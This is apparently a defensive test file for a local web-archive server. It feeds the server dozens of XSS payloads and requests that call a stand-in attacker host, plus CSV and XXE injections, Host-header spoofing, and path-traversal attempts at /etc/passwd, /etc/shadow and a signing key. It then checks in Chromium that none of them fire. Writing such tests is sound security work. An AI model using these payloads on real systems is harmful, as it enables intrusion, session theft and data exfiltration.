#!/usr/bin/env python3
"""`stet serve` among enemies: hostile pages, hostile requests, hostile clients.

Pages: more than sixty hostile titles, texts, bylines, URLs, header fields and bodies, captured over HTTP and from files, then every page of ours that shows
them in Chromium, once with our content security policy switched off, so that markup that comes through is seen and not merely stopped. Replay too.
Requests: Host, paths, sizes, methods, smuggling. Clients: 200 that drip, some that do not read, a flood. And capturing from the page, with its token.
"""

import concurrent.futures
import contextlib
import json
import pathlib
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

import browser
from blackbox import Checks, Server, Stet, arguments, respond, scratch

P = "alert('xss')"
# Markup where text is meant. §P stands for what would give it away; §A for another server.
TEXTS = [
    "<script>§P</script>", "</title><script>§P</script>", "\"><script>§P</script>", "'><script>§P</script>", "</textarea><script>§P</script>",
    "<img src=x onerror=§P>", "<img src=x:x onerror=\"§P\">", "<svg onload=§P>", "<svg/onload=§P>", "<svg><script>§P</script></svg>", "<svg><animate onbegin=§P attributeName=x dur=1s>",
    "<body onload=§P>", "<iframe src=\"javascript:§P\"></iframe>", "<iframe srcdoc=\"<script>§P</script>\"></iframe>", "<object data=\"javascript:§P\">", "<embed src=\"javascript:§P\">",
    "<a href=\"javascript:§P\">x</a>", "<a href=\"jav&#x09;ascript:§P\">x</a>", "<math><a xlink:href=\"javascript:§P\">x</a></math>", "<form action=\"javascript:§P\"><button>x</button></form>",
    "<input autofocus onfocus=§P>", "<details open ontoggle=§P>", "<video><source onerror=§P></video>", "<audio src=x onerror=§P>", "<marquee onstart=§P>x</marquee>", "<select autofocus onfocus=§P>",
    "\" onmouseover=\"§P", "\" autofocus onfocus=\"§P", "' autofocus onfocus='§P", "` onmouseover=`§P", "x\" style=\"position:fixed;inset:0;background:url(§A/s)", "\"/><base href=\"§A/\">",
    "<meta http-equiv=refresh content=\"0;url=§A/m\">", "<link rel=stylesheet href=\"§A/l\">", "<style>@import '§A/i';</style>", "<style>body{background:url(§A/b)}</style>", "<div style=\"width:expression(§P)\">",
    "<xss style=\"behavior:url(§A/h.htc)\">", "<img src=\"§A/p\">", "<img src='§A/dangling?", "<!--<img src=\"--><img src=x onerror=§P//\">", "<![CDATA[<script>§P</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror=§P>\">",
    "<template><script>§P</script></template>", "<plaintext>", "</main></body></html><script>§P</script>", "-->]]><script>§P</script>",
    "{{ constructor.constructor('§P')() }}", "{{{ said }}}", "{{{timeline}}} {{#captures}}<script>§P</script>{{/captures}}", "{{% CONTENT_TYPE:TEXT}}{{> document-head}}", "${§P}", "<%= §P %>", "#{§P}",
    "+ADw-script+AD4-§P+ADw-/script+AD4-", "\uff1cscript\uff1e§P\uff1c/script\uff1e", "\u02bascript\u02ba", "\u2028§P\u2029",
    # A mark that combines with what ends an attribute makes another character of it, for those who look at characters.
    "\"\u0301 autofocus onfocus=§P x=\"\u0301", "'\u200d autofocus onfocus=§P x='\u200d", "<\ufe0fscript>§P</script>", "\"\u20e3 onmouseover=§P x=\"\u20e3", "&\u0301lt;script>§P</script>", "<\u0338img src=x onerror=§P>",
    "\u202e>tpircs/<)1(trela>tpircs<", "\u2066hidden\u2069\u200f turned\u061c round", "\u200b\u200c\u200d\ufeff\u00ad", "a\u0300\u0301\u0302\u0303\u0304\u0305" * 40, "\U000e0041\U000e0042tags", "\ufffe\uffff",
    "&lt;script&gt;§P&lt;/script&gt;", "&#60;script&#62;§P&#60;/script&#62;", "&quot; onfocus=&quot;§P", "%3Cscript%3E§P%3C/script%3E", "\\u003cscript\\u003e§P\\u003c/script\\u003e", "\\\" onfocus=§P \\\"",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§P )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=§P//>\\x3e",
    "\x1b]0;title\x07\x1b[2J\x08\x08\x7f", "A" * 60_000, "<" * 20_000, "<b>" * 5_000, "'\"<>&`=/", "[x](javascript:§P)", "=cmd|' /C calc'!A0", "../../../../etc/passwd", "\x00<script>§P</script>",
]
# Addresses: what a file may be said to be a copy of.
URLS = [
    "javascript:§P", "JaVaScRiPt:§P", "\u0001javascript:§P", "java\tscript:§P", "data:text/html,<script>§P</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=", "vbscript:msgbox(1)", "blob:https://x.example/1",
    "view-source:§A/v", "file:///etc/passwd", "about:blank#<script>§P</script>", "https://x.example/\"><script>§P</script>", "https://x.example/'onmouseover='§P", "https://x.example/?q=</title><script>§P</script>",
    "https://x.example/#\"><img src=x onerror=§P>", "https://user:\"><svg onload=§P>@x.example/", "https://x.example/{{url}}{{{url}}}", "https://x.example/%0d%0aSet-Cookie:%20a=b", "https://x.example/%00", "//x.example/\\\"><script>§P</script>",
    "https://x.example/\u202egnp.exe", "https://x.example/" + "a" * 7000, "https://\"><script>§P<.example/", "https://x.example/../../capture/00", "https://x.example/\"\u0301/autofocus/onfocus=§P/x=\"\u0301", "https://x.example/\u061c\u200f\u2067x", "HTTPS://X.EXAMPLE:443/<ScRiPt>§P</ScRiPt>", "https://x.example/?a=<!--&b=-->&amp;lt;", "https://x.example/`${§P}`",
]
# Values of header fields, as far as HTTP can carry them at all.
VALUES = ["<script>§P</script>", "\"><img src=x onerror=§P>", "x\tonload=§P", "=?utf-8?q?=3Cscript=3E?=", "</pre><script>§P</script>", "0;url=javascript:§P", "{{{headers}}}", "\u00fc\u00e9 caf\u00e9", "a" * 3000, "+ADw-script+AD4-"]
# Whole bodies that do something: (media type, body).
BODIES = [
    ("text/html", "<script>§P;fetch('§A/f')</script><p>A sentence that stands here to be read by all.</p>"),
    ("text/html", "<base href='§A/'><img src=base.png><a href=x>x</a>"), ("text/html", "<meta http-equiv=refresh content='0;url=§A/refresh'>"), ("text/html", "<meta http-equiv=refresh content='0;url=javascript:§P'>"),
    ("text/html", "<iframe src='§A/frame'></iframe><iframe srcdoc='<script>parent.§P</script>'></iframe>"), ("text/html", "<object data='§A/o'></object><embed src='§A/e'><video src='§A/v' autoplay></video>"),
    ("text/html", "<link rel=stylesheet href='§A/c'><link rel=prefetch href='§A/p'><link rel=preconnect href='§A'><link rel=dns-prefetch href='//dns.example'><img srcset='§A/s 1x' src='§A/s2'>"),
    ("text/html", "<style>@import url(§A/import);@font-face{font-family:x;src:url(§A/font)}body{font-family:x;background:url(§A/bg)}</style>text"),
    ("text/html", "<form action='§A/form' id=f><input name=a><input type=image src='§A/i'></form><script>f.submit()</script>"), ("text/html", "<body onload=§P onpageshow=§P background='§A/bg'>text"),
    ("text/html", "<svg><script href='§A/svg.js'></script><use href='§A/u#x'/><image href='§A/im'/><foreignObject><iframe src='javascript:§P'></iframe></foreignObject></svg>"),
    ("text/html", "<script>top.location='§A/top';location='§A/self';window.open('§A/open')</script>"), ("text/html", "<a id=a href='§A/ping' ping='§A/ping'>x</a><script>a.click()</script>"),
    ("text/html", "<script>document.cookie='a=b';navigator.sendBeacon('§A/beacon');new WebSocket('ws://ws.example');new Worker('data:,')</script>"),
    ("text/html", "<portal src='§A/portal'></portal><fencedframe src='§A/ff'></fencedframe><applet code='§A/ap'></applet><frameset><frame src='§A/fr'></frameset>"),
    ("text/html; charset=utf-7", "+ADw-script+AD4-§P+ADw-/script+AD4-"), ("text/html; charset=iso-2022-jp", "\x1b$B<script>§P</script>\x1b(B"), ("text/html; charset=utf-16", "<script>§P</script>"),
    ("text/html", "<script type=module>import '§A/module.js'</script><script type=importmap>{\"imports\":{\"x\":\"§A/x\"}}</script><script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"§A/spec\"]}]}</script>"),
    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"§P\"><script>§P</script><image href='§A/svgimage'/></svg>"),
    ("text/xml", "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='§A/x.xsl'?><html xmlns='http://www.w3.org/1999/xhtml'><script>§P</script></html>"),
    ("application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><body onload=\"§P\"><script>§P</script></body></html>"), ("application/xml", "<!DOCTYPE x [<!ENTITY e SYSTEM '§A/xxe'>]><x xmlns:h='http://www.w3.org/1999/xhtml'>&e;<h:script>§P</h:script></x>"),
    ("text/plain", "<script>§P</script>"), ("application/octet-stream", "<html><script>§P</script></html>"), ("", "<html><script>§P</script></html>"), ("x/x", "<html><script>§P</script></html>"),
    ("application/json", "{\"a\":\"<script>§P</script>\"}"), ("text/javascript", "§P"), ("text/css", "body{background:url(§A/css)}"), ("application/pdf", "%PDF-1.4 <script>§P</script>"),
    ("multipart/x-mixed-replace; boundary=b", "--b\r\nContent-Type: text/html\r\n\r\n<script>§P</script>\r\n--b--"), ("message/rfc822", "Content-Type: text/html\r\n\r\n<script>§P</script>"),
    ("image/png", "\x89PNG\r\n<script>§P</script>"), ("text/html\r\n", "<script>§P</script>"), ("text/cache-manifest", "CACHE MANIFEST\n§A/manifest"), ("application/x-shockwave-flash", "FWS<script>§P</script>"),
]


def fill(text, away):
    return text.replace("§P", P).replace("§A", away)


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def page_of(text, version):
    """A story that says `text` as text everywhere that we show text from; the second version says it a little differently."""
    said = escape(text)
    same = "".join(f"<p>Sentence number {n} stays as it is, and says that the council met on Tuesday in the town hall.</p>" for n in range(4))
    new = f"<p>The report of the council says {said} and costs {3 + version} million euros in {11 + version} months.</p>"
    more = f"<p>Only then came the words {said} to the end of the story.</p>" if version else f"<p>At first stood the words {said} at the end of the story.</p>"
    return (f"<!doctype html><html lang='{said[:80]}'><head><meta charset=utf-8><title>{said}</title><meta name=author content=\"{said}\"><meta property=og:title content=\"{said}\">"
            f"<meta property=article:published_time content=\"{said}\"></head><body><article><h1>{said}</h1><p class=byline rel=author>By {said}</p>{same}{new}{more}</article></body></html>").encode("utf-8", "surrogatepass")


class Enemy:
    """The server whose pages are captured, and one that nobody may be led to."""

    def __init__(self):
        self.version = 0
        self.visits = []
        self.away = Server(self._visited)
        self.pages = {}
        self.server = Server(self._answer)

    def _visited(self, handler):
        self.visits.append(handler.path)
        respond(handler, 200, b"<script>alert('away')</script>")

    def _answer(self, handler):
        kind, make, fields = self.pages.get(handler.path.partition("?")[0], ("text/html", lambda _: b"<p>x", ()))
        body = make(self.version)
        handler.send_response(200)
        if kind: handler.send_header("Content-Type", kind.strip())
        for name, value in fields: handler.send_header(name, value)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)


def archive(checks, stet, folder, enemy, quick):
    """Captures all of it; returns the captures by URL."""
    away = f"http://127.0.0.1:{enemy.away.port}"
    checks.code(stet.run("init"), 0, "init")
    texts = [fill(t, away) for t in TEXTS]
    for n, text in enumerate(texts):
        value = fill(VALUES[n % len(VALUES)], away)
        enemy.pages[f"/t{n}"] = ("text/html; charset=utf-8", lambda v, text=text: page_of(text, v), [("X-Hostile", value), ("Content-Disposition", "inline; filename=\"<script>.html\""), ("Refresh", f"0;url={away}/r"),
                                 ("Content-Security-Policy", "script-src *"), ("Link", f"<{away}/link>; rel=preload; as=script"), ("Set-Cookie", "stet_session=theirs"), ("Access-Control-Allow-Origin", "*"), ("Clear-Site-Data", '"*"')])
    for n, (kind, body) in enumerate(BODIES):
        data = fill(body, away)
        enemy.pages[f"/b{n}"] = (kind, lambda v, data=data: data.encode("utf-16" if "utf-16" in kind else "latin-1" if "\x89" in data else "utf-8") + (f"<!-- {v} --><p>And sentence number {v} in the story.</p>".encode() if v else b""), [])
    sources = [enemy.server.url(path) for path in enemy.pages]
    # Markup in the address itself, which a browser would not send, but a program may.
    sources += [enemy.server.url(f"/t{n}?" + urllib.parse.quote(text[:300].encode("utf-8", "surrogatepass"), safe="<>\"'/=()&;:{}")) for n, text in enumerate(texts[:16])]
    captures = {}
    for version in (0, 1):
        enemy.version = version
        (folder / "list").write_text("\n".join(sources) + "\n")
        result, lines = stet.lines("capture", "--input", folder / "list", "--no-summary")
        checks.check(len(lines) >= len(sources) - 3, f"version {version}: {len(lines)} of {len(sources)} are captured", result)
        for line in lines: captures.setdefault(line["url"], []).append(line)
    taken = 0
    for n, url in enumerate(fill(u, away) for u in URLS):
        for version in (0, 1):
            (folder / "page").write_bytes(page_of(url[:400], version))
            result, lines = stet.lines("capture", folder / "page", "--url", url, "--at", f"2026-03-0{version + 1}", "--media-type", "text/html")
            if result.code == 0 and lines:
                captures.setdefault(lines[0]["url"], []).append(lines[0])
                taken += not version
    checks.check(taken >= 10, f"{taken} of {len(URLS)} hostile addresses are taken; the others are refused")
    checks.equal([url for url in captures if not url.startswith(("http://", "https://", "file:///"))], [], "none that a browser would run")
    # More than any socket holds.
    (folder / "page").write_bytes(b"All work and no play makes a long page.\n" * 200_000)
    result, lines = stet.lines("capture", folder / "page", "--url", "https://x.example/long", "--at", "2026-03-01", "--media-type", "application/octet-stream", "--no-summary")
    checks.code(result, 0, "a long page")
    # As files that nobody named otherwise.
    name = folder / "<img src=x onerror=alert('xss')>.html"
    name = folder / name.name.replace("/", "_")
    name.write_bytes(page_of("a file", 0))
    result, lines = stet.lines("capture", name)
    checks.code(result, 0, "a file with a hostile name")
    for line in lines: captures.setdefault(line["url"], []).append(line)
    checks.code(stet.run("search", "--index"), 0, "search --index")
    return captures


# ---- in the browser

# Each frame tells of calls that only hostile markup would make.
SENTINEL = """for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => { console.info('SENTINEL ' + name + ' ' + location.href); };"""
# What our own pages are made of, and nothing else.
FOREIGN = """(html) => {
  const document = html == null ? window.document : new DOMParser().parseFromString(html, 'text/html');
  const found = [];
  const say = (what, element) => found.push(what + ': ' + element.outerHTML.slice(0, 300));
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName;
    if (name === 'script' && !/^\\/assets\\/stet\\.js\\?/.test(element.getAttribute('src') ?? '')) say('script', element);
    if (['base', 'object', 'embed', 'portal', 'style', 'applet', 'frame', 'video', 'audio', 'img', 'template', 'math', 'plaintext', 'marquee', 'foreignObject', 'animate', 'image', 'use'].includes(name)) say('element', element);
    if (name === 'iframe' && !(element.getAttribute('src') ?? '').startsWith('/web/')) say('frame', element);
    if (name === 'iframe' && element.getAttribute('sandbox') !== '') say('frame without sandbox', element);
    if (name === 'meta' && element.httpEquiv) say('meta', element);
    if (name === 'link' && !(element.getAttribute('href') ?? '').startsWith('/')) say('link', element);
    if (name === 'form' && !/^\\/(search|pages|compare|keep|login|logout)$/.test(element.getAttribute('action') ?? '')) say('form', element);
    for (const attribute of element.attributes) {
      if (/^on|^style$|^srcdoc$|^ping$|^formaction$|^xlink:|^background$/.test(attribute.name) || !/^[a-z-]+[12]?$/i.test(attribute.name)) say('attribute ' + attribute.name, element);
      if (['href', 'src', 'action'].includes(attribute.name) && /^\\s*[a-z][a-z0-9+.-]*:/i.test(attribute.value) && !/^https?:/.test(attribute.value)) say('address', element);
    }
  }
  return found.slice(0, 5);
}"""
MARKS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\x00-\x08\x0b-\x1f\x7f]")


class Watch:
    def __init__(self, checks, serving, opened, enemy, **options):
        self.checks, self.serving, self.enemy = checks, serving, enemy
        self.context = opened.new_context(viewport={"width": 1000, "height": 700}, **options)
        self.context.add_init_script(SENTINEL)
        self.context.set_default_timeout(15_000)
        self.fired = []
        self.looked = 0
        self.page = self.context.new_page()
        self.page.on("console", lambda said: "SENTINEL" in said.text and self.fired.append(said.text))
        self.page.on("dialog", lambda dialog: (self.fired.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("popup", lambda popup: self.fired.append(f"popup {popup.url[:200]}"))
        self.page.on("download", lambda download: None)

    def open(self, path, settle=0):
        self.fired.clear()
        self.enemy.visits.clear()
        url = self.serving.url(path)
        answer = None
        try:
            for _ in range(30):
                answer = self.page.goto(url, wait_until="load")
                if answer is None or answer.status != 202: break
                time.sleep(0.2)
        except Exception as error:
            # A download is no page: that is as it should be.
            if "Download is starting" not in str(error) and "net::ERR_ABORTED" not in str(error): self.fired.append(f"{path[:100]}: {str(error)[:300]}")
        if settle: self.page.wait_for_timeout(settle)
        self.looked += 1
        return answer

    def nothing(self, path):
        said = self.fired + [f"visit of {v}" for v in self.enemy.visits]
        return self.checks.check(not said, f"{path[:120]}: nothing fires", "\n".join(said[:6]))


def control(checks, opened, enemy):
    """The traps work: what is shown as it came fires."""
    checks.section("the traps")
    away = f"http://127.0.0.1:{enemy.away.port}"
    open_to_all = Server(lambda handler: respond(handler, 200, ("<p title=\"" + fill(TEXTS[2], away) + fill("<img src=x onerror=§P>", away) + f"<img src='{away}/control'>").encode()))
    with open_to_all as server:
        stand_in = type("Bare", (), {"address": server.url(""), "url": lambda self, path: server.url(path)})()
        watch = Watch(checks, stand_in, opened, enemy)
        watch.open("/", settle=200)
        checks.check(sum("SENTINEL alert" in f for f in watch.fired) >= 2, "a script and a handler are seen", watch.fired)
        checks.check("/control" in enemy.visits, "a request elsewhere is seen", enemy.visits)
        checks.check(len(watch.page.evaluate(FOREIGN)) >= 2, "and foreign markup")
        watch.context.close()


def shown(checks, serving, opened, enemy, captures, quick):
    checks.section(f"our pages of {len(captures)} hostile ones")
    watch = Watch(checks, serving, opened, enemy, bypass_csp=True)
    quote = browser.quote
    paths = ["/", "/pages", "/search?removed=1&limit=400", "/search?q=council&limit=400", "/search?q=words&limit=400", "/log"]
    for url, lines in captures.items():
        short = url if len(url) < 5000 else None
        ids = [line["id"] for line in lines]
        paths += [f"/capture/{ids[-1]}"]
        if short:
            paths += [f"/{place}={quote(url)}" for place in ("history?show=all&url", "blame?removed=1&url", "claims?url")]
            paths += [f"/pages?find={quote(url[:200])}"]
        if len(ids) > 1:
            views = ("side", "word") if quick else ("side", "inline", "word", "line", "source")
            paths += [f"/compare?a={ids[0]}&b={ids[-1]}&view={view}" for view in views]
    for text in (fill(t, f"http://127.0.0.1:{enemy.away.port}")[:400] for t in TEXTS + URLS):
        asked = urllib.parse.quote(text.encode("utf-8", "surrogatepass"), safe="")
        paths += [f"/search?q={asked}&since={asked[:60]}&claim={asked[:60]}", f"/history?url={asked}", f"/compare?a={asked}&b={asked}&view={asked}", f"/capture/{asked}", f"/{asked}", f"/pages?find={asked}&after={asked}"]
    # All of them are parsed as a browser parses them; some of each kind are looked at, with script.
    steps = {"/compare": 4, "/capture": 4, "/history": 4, "/blame": 3, "/claims": 5, "/search": 3, "/pages": 5}
    foreign, marks, live, seen = [], [], 0, {}
    for path in paths:
        kind = "/" + path[1:].partition("?")[0].partition("/")[0]
        seen[kind] = number = seen.get(kind, -1) + 1
        if number % (steps.get(kind, 6) * (4 if quick else 1)) == 0:
            live += 1
            answer = watch.open(path)
            watch.nothing(path)
            status, html = answer.status if answer else 0, None
            text = watch.page.evaluate("document.documentElement.innerText + document.title")
        else:
            for _ in range(100):
                status, _, body = serving.get(path, timeout=60)
                if status != 202: break
                time.sleep(0.1)
            text = html = body.decode("utf-8", "surrogateescape")
        checks.check(200 <= status < 500 and status != 202, f"{path[:120]}: status {status}")
        found = watch.page.evaluate(FOREIGN, html) if html is not None else watch.page.evaluate(FOREIGN)
        if found: foreign.append(f"{path[:200]}\n    " + "\n    ".join(found))
        # What a reader types comes back as it was typed; what was captured does not.
        hidden = set(MARKS.findall(text)) - set("\t\n\r")
        if hidden and not MARKS.search(urllib.parse.unquote(path)): marks.append(f"{path[:200]} {hidden!r}")
    checks.check(not foreign, f"{len(foreign)} of {len(paths)} pages have markup that is not ours", "\n".join(foreign[:6]))
    checks.check(not marks, f"{len(marks)} of {len(paths)} pages have characters that hide or turn others", "\n".join(marks[:6]))
    print(f"  {len(paths)} pages parsed, {live} of them looked at")
    text = watch.open(f"/compare?a={captures[enemy.server.url('/t1')][0]['id']}&b={captures[enemy.server.url('/t1')][1]['id']}") and watch.page.locator("main").inner_text()
    checks.check("</title><script>alert('xss')</script>" in text, "and it is shown as the text that it is", text[:800])
    watch.context.close()


def replayed(checks, serving, opened, enemy, captures, quick):
    checks.section("replay")
    first = next(iter(captures))
    digits = lambda line: re.sub(r"\D", "", line["capturedAt"])[:14]
    where = lambda line: f"/web/{digits(line)}/{line['url']}"
    if serving.get(urllib.parse.quote(where(captures[first][0]), safe="/:?=&%"))[0] in (404, 501):
        checks.skip("replay does not answer: hostile pages in it are not looked at")
        return
    watch = Watch(checks, serving, opened, enemy)
    odd = set()
    for url, lines in captures.items():
        path = urllib.parse.quote(where(lines[-1]), safe="/:?=&%;@")
        for one in (path, path.replace("/http", "id_/http", 1)):
            status, fields, _ = serving.get(one)
            policy = fields.get("content-security-policy", "")
            if isinstance(policy, list): odd.add(f"two policies: {policy}")
            if status == 200 and not ("sandbox" in policy and "allow-scripts" not in policy and "allow-same-origin" not in policy): odd.add(f"{one[:60]}: {policy}")
            if fields.get("x-content-type-options") != "nosniff": odd.add(f"{one[:60]}: may be sniffed")
            for name in ("set-cookie", "refresh", "clear-site-data", "access-control-allow-origin", "x-hostile"):
                if name in fields: odd.add(f"their {name} is passed on: {fields[name]}")
            if any(away in str(fields.get("link", "")) for away in (f":{enemy.away.port}/link",)): odd.add("their Link is passed on")
            watch.open(one, settle=0 if quick else 60)
            watch.nothing(one)
            # Wherever it led, it is still this server's.
            checks.check(watch.page.url.startswith((serving.address + "/web/", "about:blank", "chrome-error:")) or watch.page.url == serving.address + one, f"{one[:100]}: stays where it is", watch.page.url)
    checks.equal(sorted(odd)[:8], [], "the header fields are ours")
    if not quick:
        rendered = [(lines[0]["id"], lines[-1]["id"]) for lines in captures.values() if len(lines) > 1]
        for a, b in rendered[::4]:
            path = f"/compare?a={a}&b={b}&view=rendered"
            watch.open(path, settle=100)
            watch.nothing(path)
            checks.equal(watch.page.url, serving.url(path), "the page around it stays")
    watch.context.close()


# ---- requests

class Raw:
    """One connection, and bytes on it."""

    def __init__(self, serving, timeout=15):
        self.socket = socket.create_connection((serving.host.strip("[]"), serving.port), timeout=timeout)

    def send(self, data):
        self.socket.sendall(data if isinstance(data, bytes) else data.encode())
        return self

    def all(self, wait=15):
        """What comes, to the end of the connection or of the time."""
        data, end = b"", time.monotonic() + wait
        with contextlib.suppress(TimeoutError, ConnectionError, OSError):
            while time.monotonic() < end:
                self.socket.settimeout(max(0.05, end - time.monotonic()))
                more = self.socket.recv(65536)
                if not more: return data
                data += more
        return data

    def close(self):
        with contextlib.suppress(OSError): self.socket.close()


def statuses(data):
    return [int(status) for status in re.findall(rb"(?:^|(?<=[^\x00]))HTTP/1\.1 (\d{3}) ", data)]


def once(serving, data, wait=3):
    raw = Raw(serving)
    try:
        with contextlib.suppress(OSError): raw.send(data)
        return raw.all(wait)
    finally:
        raw.close()


def headers(checks, serving, captures):
    checks.section("header fields of all answers")
    ids = [line["id"] for line in next(lines for lines in captures.values() if len(lines) > 1)]
    url = browser.quote(next(iter(captures)))
    pages = ["/", "/pages", f"/history?url={url}", f"/compare?a={ids[0]}&b={ids[1]}", f"/capture/{ids[0]}", "/search", "/log", "/nowhere", "/compare", f"/capture/{'0' * 64}", "/keep"]
    data = [f"/capture/{ids[0]}/body", f"/capture/{ids[0]}/headers", f"/capture/{ids[0]}/proof", "/assets/stet.css", "/assets/stet.js", "/assets/stet.svg", "/assets/none", "/robots.txt", "/healthz", f"/compare?a={ids[0]}&b={ids[1]}&alone=1"]
    for path in pages + data:
        for method in ("GET", "HEAD", "POST", "DELETE"):
            status, fields, body = serving.ask(method, path)
            what = f"{method} {path[:60]} ({status})"
            policy = fields.get("content-security-policy", "")
            checks.check(isinstance(policy, str) and "default-src 'none'" in policy and "unsafe" not in policy, f"{what}: a strict policy", policy)
            checks.check("script-src 'self'" in policy and "base-uri 'none'" in policy and "frame-ancestors 'none'" in policy and "form-action 'self'" in policy or "sandbox" in policy, f"{what}: the policy of a page, or a sandbox", policy)
            checks.equal(fields.get("x-content-type-options"), "nosniff", f"{what}: nosniff")
            checks.check(fields.get("referrer-policy") in ("no-referrer", "same-origin"), f"{what}: referrer", fields)
            checks.check("cache-control" in fields and (status < 400 or fields["cache-control"] == "no-store"), f"{what}: whether to keep it", fields)
            checks.check("server" not in fields and "x-powered-by" not in fields, f"{what}: says nothing of itself")
            if method in ("HEAD",): checks.equal(body, b"", f"{what}: no body")
    body = serving.get(f"/capture/{ids[0]}/body")
    checks.check(body[1]["content-type"] == "application/octet-stream" and body[1]["content-disposition"].startswith("attachment"), "bytes of others are a download", body[1])
    checks.check(serving.get(f"/capture/{ids[0]}/headers")[1]["content-type"].startswith("text/plain"), "header fields of others are text")


def requests(checks, serving, stet):
    checks.section("requests")
    get = lambda host: once(serving, f"GET /healthz HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
    port = serving.port
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST:{port}", "127.0.0.1", f"stet.localhost:{port}", "[::1]", "127.9.8.7"):
        checks.equal(statuses(get(host)), [200], f"Host {host} is this machine")
    for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example", "localhost.evil.example", "1.127.0.0", "0.0.0.0", "127.0.0.1.", "[::2]", "evil.example:localhost", "169.254.169.254", "127.0.0.256", "notlocalhost"):
        checks.equal(statuses(get(host)), [421], f"Host {host} is another's")
    for host in ("evil.example/localhost", "a@127.0.0.1", "localhost<script>", "localhost, evil.example", "localhost\x01", "\u00e9.localhost"):
        found = statuses(get(host))
        checks.check(found in ([400], [421], []), f"Host {host!r} is none", found)
    found = statuses(once(serving, f"GET /healthz HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n"))
    checks.check(found in ([400], []), "two Host fields are refused (RFC 9112, 3.2)", found)
    found = statuses(once(serving, "GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n"))
    checks.check(found in ([400], []), "HTTP/1.1 without Host is refused (RFC 9112, 3.2)", found)
    found = statuses(once(serving, "GET http://evil.example/healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
    checks.check(found in ([200], [400], [421]), "another host in the target itself leads nowhere else", found)

    secret = "signing-key"
    names = ["/../signing-key", "/assets/../../signing-key", "/assets/..%2f..%2fsigning-key", "/assets/%2e%2e/%2e%2e/signing-key", "/assets/....//signing-key", "/tile/../../signing-key", "/tile/%2e%2e/%2e%2e/signing-key", "/tile/0/../../../signing-key",
             "/tile/..%5c..%5csigning-key", "//signing-key", "/assets//etc/passwd", "/tile//etc/passwd", "/tile/entries/../../signing-key", "/capture/../signing-key", "/web/20260101000000/file:///etc/shadow", "/checkpoint/../../signing-key", "/assets/stet.css%00.html", "/tile/0/000%00", "/.git/config",
             "/static/%252e%252e/signing-key", "/\\..\\signing-key", "/assets/stet.css/../stet.js", "/catalogue.sqlite", "/segments/", "/api/v1/../../signing-key"]
    key = (stet.archive / secret).read_bytes() if (stet.archive / secret).exists() else b"PRIVATE"
    for name in names:
        answer = once(serving, f"GET {name} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        found = statuses(answer)
        checks.check(found and found[0] in (400, 404, 405, 403, 414) and key[:24] not in answer and b"root:" not in answer and b"SQLite" not in answer, f"{name}: nothing there", answer[:400].decode("latin-1"))
        checks.check(str(stet.archive).encode() not in answer, f"{name}: no path of this machine is told")
    for length, wanted in ((8_000, {200, 400, 404}), (30_000, {200, 400, 404}), (35_000, {414}), (200_000, {414, 400, 431}), (5_000_000, {414, 400, 431})):
        found = statuses(once(serving, b"GET /search?q=" + b"a" * length + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"))
        # A connection that is closed on a client that still sends may lose the answer on its way.
        checks.check(found and found[0] in wanted or not found and length > 100_000, f"a target of {length} bytes: {sorted(wanted)}", found)
    checks.equal(statuses(once(serving, b"GET /search?q=" + b"a" * 40_000 + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")), [414], "a target of 40,000 bytes: 414")
    for what, data in {"one field of 100,000 bytes": b"X: " + b"a" * 100_000, "10,000 fields": b"\r\n".join(b"X%d: y" % n for n in range(10_000)), "a field without end": b"X: " + b"a" * 3_000_000}.items():
        found = statuses(once(serving, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + data + b"\r\n\r\n"))
        checks.check(found in ([400], [431], []), f"{what}: refused", found)
    for text in ("%", "%zz", "%4", "%e2%28%a1", "%00", "%ff%fe", "%u0041", "+%", "%25%32%66", "a=%&b", "%f0%9f"):
        for path in (f"/search?q={text}", f"/history?url={text}", f"/capture/{text}", f"/{text}", f"/pages?find={text}&after={text}", f"/web/{text}/{text}", f"/timemap/link/{text}", f"/api/v1/{text}"):
            status = serving.get(path)[0]
            checks.check(status < 500 and status != 0, f"{path}: {status}")
    for query in ("a=1&a=2", "&&&", "=", "q", "q=a&" * 2000, "limit=-1&q=council", "limit=99999999999999999999&q=council", "before=-5&url=x", "context=9223372036854775807", "since=0000&q=a", "until=9999-99-99&q=a", "q=" + "(" * 3000, "q=" + "NOT%20" * 1500 + "a", "q=" + "a%20OR%20" * 1500 + "b", "q=%22" * 500, "q=*", "q=" + "a*%20" * 1000):
        for place in ("search", "pages", "history", "compare"):
            begin = time.monotonic()
            status = serving.get(f"/{place}?{query}", timeout=60)[0]
            checks.check(status < 500, f"/{place}?{query[:50]}: {status}")
            checks.check(time.monotonic() - begin < 20, f"/{place}?{query[:50]}: answered soon")
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "POST", "get", "X" * 30):
        status, fields, _ = serving.ask(method, "/")
